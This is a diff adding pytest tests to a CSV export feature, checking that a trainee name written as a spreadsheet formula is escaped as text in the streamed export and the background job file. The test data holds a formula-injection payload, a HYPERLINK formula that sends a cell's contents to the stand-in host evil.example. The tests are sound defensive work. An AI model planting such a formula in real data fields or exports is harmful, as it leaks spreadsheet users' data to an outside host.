@@ -135,6 +135,32 @@ def test_the_summary_csv_has_one_row_per_trainee_skill_and_game(login_as, owner,
     assert len(rows) == 4
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+@pytest.mark.parametrize("kind", ["attempts", "summary"])
+def test_a_trainee_whose_name_is_a_formula_is_exported_as_text(login_as, owner, trainee, april, kind):
+    trainee.user.name = FORMULA_NAME
+    trainee.user.save(update_fields=["name"])
+    response = login_as(owner).get(url("export_stream", owner.organisation), _params(kind=kind))
+    rows = _rows(b"".join(response.streaming_content))
+    names = {dict(zip(rows[0], row, strict=True))["trainee_name"] for row in rows[1:]}
+    assert "'" + FORMULA_NAME in names
+    assert FORMULA_NAME not in names
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)
+
+
+def test_the_job_file_escapes_a_formula_name_too(owner, trainee, april, media_root):
+    trainee.user.name = FORMULA_NAME
+    trainee.user.save(update_fields=["name"])
+    job = _job(owner, media_root)
+    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
+    with open(os.path.join(media_root, job.file.name), encoding="utf-8") as done:
+        rows = list(csv.reader(io.StringIO(done.read()[1:])))
+    names = {dict(zip(rows[0], row, strict=True))["trainee_name"] for row in rows[1:]}
+    assert "'" + FORMULA_NAME in names
+
+
 def test_another_organisation_sees_none_of_these_attempts(login_as, other_owner, april):
     response = login_as(other_owner).get(url("export_stream", other_owner.organisation), _params())
     assert len(_rows(b"".join(response.streaming_content))) == 1
